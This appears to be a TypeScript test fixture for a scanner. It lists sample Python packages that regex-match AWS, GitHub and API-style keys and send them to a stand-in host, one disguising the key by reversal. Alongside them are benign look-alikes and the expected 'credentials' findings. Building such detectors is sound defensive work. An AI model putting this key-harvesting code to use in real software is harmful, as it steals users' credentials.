import type { Sample } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

const FIND =
  "import re, requests\nKEYS = {'cloud': re.compile(r'\\bAKIA[0-9A-Z]{16}\\b'), 'hub': re.compile(r'\\bghp_\\w{36}\\b')}\n";
const LOOK = 'def look(text):\n    for kind, key in KEYS.items():\n        for m in key.finditer(text):\n';

/** Keys that Python looks for by a pattern, sent somewhere. */
export const SOUGHT_KEYS: readonly Sample[] = [
  {
    name: 'Python: keys in a text, to a server of its own, whose answer is read',
    files: wheel(
      `${FIND}${LOOK}            print(requests.get('https://a.weir.test/i', params={kind: m.group(0)[::-1]}).text)\n`,
    ),
    expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 6, severity: 'high' }],
  },
  {
    name: 'Python: keys in a file that is read, to a server of its own',
    files: wheel(
      "import re, requests\ndef look(path):\n    found = re.findall(r'sk-[A-Za-z0-9]{20,}', open(path).read())\n    requests.post('https://a.weir.test/i', json=found)\n",
    ),
    expected: [{ rule: 'credentials', file: 'own/__init__.py', line: 4, severity: 'high' }],
  },
];

/** Scanners, checks and pages. */
export const SOUGHT_HONEST = [
  quiet(
    'Python: keys in a text, to where the caller says',
    wheel(
      `${FIND}def look(text, hook):\n    for kind, key in KEYS.items():\n        for m in key.finditer(text):\n            requests.post(hook, json={kind: m.group(0)})\n`,
    ),
  ),
  quiet(
    'Python: keys in a text, to the services whose keys they are',
    wheel(
      `${FIND}${LOOK}            requests.get('https://api.github.com/user', headers={'Authorization': m.group(0)})\n`,
    ),
  ),
  quiet(
    'Python: keys in a text, said to the user',
    wheel(`${FIND}${LOOK}            print(kind, m.group(0)[:4])\n`),
  ),
  quiet(
    'Python: a text without the keys in it, to a server of its own',
    wheel(
      `${FIND}def tell(text):\n    for key in KEYS.values():\n        text = key.sub('***', text)\n    return requests.post('https://a.weir.test/i', json={'text': text}).json()\n`,
    ),
  ),
  quiet(
    'Python: a key that is one as a whole, to the server that it is for',
    wheel(
      "import re, requests\ndef login(key):\n    found = re.search(r'^sk-[A-Za-z0-9]{20,}$', key)\n    return requests.get('https://a.weir.test/i', headers={'X-Key': found.group(0)}).json()\n",
    ),
  ),
  quiet(
    'Python: a key that a page shows to everybody',
    wheel(
      "import re, requests\ndef load():\n    key = re.search(r'npm_[A-Za-z0-9]{36}', requests.get('https://b.weir.test/').text).group(0)\n    return requests.get('https://a.weir.test/i', params={'key': key}).json()\n",
    ),
  ),
];
